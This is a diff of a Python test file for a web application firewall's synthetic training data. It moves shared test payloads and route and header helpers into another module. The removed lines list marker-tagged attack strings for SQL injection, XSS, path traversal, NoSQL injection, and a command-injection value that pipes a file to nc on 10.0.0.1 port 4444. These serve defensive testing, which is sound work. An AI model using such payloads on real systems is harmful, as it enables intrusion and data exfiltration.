@@ -19,35 +19,10 @@ from waf_proxy.training.synth_templates import REGISTRY, Template, templates_for
 from waf_proxy.training.synth_templates_holdout3 import HOLDOUT3
 from waf_proxy.training.synth_values import SENTINEL, encode_for_slot
 from tests.training.test_synth import _strings, problems
+from tests.training.test_synth_templates_holdout import MARK, PAYLOADS, _ctype, _on, _overlap
 
 MINE = [REGISTRY[name] for name in HOLDOUT3]
 SEEDS = range(40)
-
-# Each payload carries a marker that no benign value contains, so we can find it after encoding.
-MARK = "zqmark7"
-PAYLOADS = [
-    (f"' OR '{MARK}'='{MARK}' -- ", "sqli"),
-    (f"<script>alert('{MARK}')</script>", "xss"),
-    (f"../../../{MARK}/etc/passwd", "path-traversal"),
-    (f"; cat /etc/{MARK} | nc 10.0.0.1 4444 #", "rce"),
-    ('{"$where": "' + MARK + '"}', "nosql-injection"),
-]
-
-
-def _on(path: str, routes: tuple[str, ...]) -> bool:
-    return any(path == r if r == "/" else path.startswith(r) for r in routes)
-
-
-def _overlap(a: str, b: str) -> bool:
-    """Two routes clash when one is a prefix of the other (the root "/" only matches itself)."""
-    if "/" in (a, b):
-        return a == b
-    return a.startswith(b) or b.startswith(a)
-
-
-def _ctype(record: dict[str, Any]) -> str:
-    return next((v for k, v in record["headers"] if k.lower() == "content-type"), "")
-
 
 def _ics(body: str) -> list[tuple[str, str]]:
     """(name with parameters, value) per unfolded iCalendar content line; checks the component nesting."""
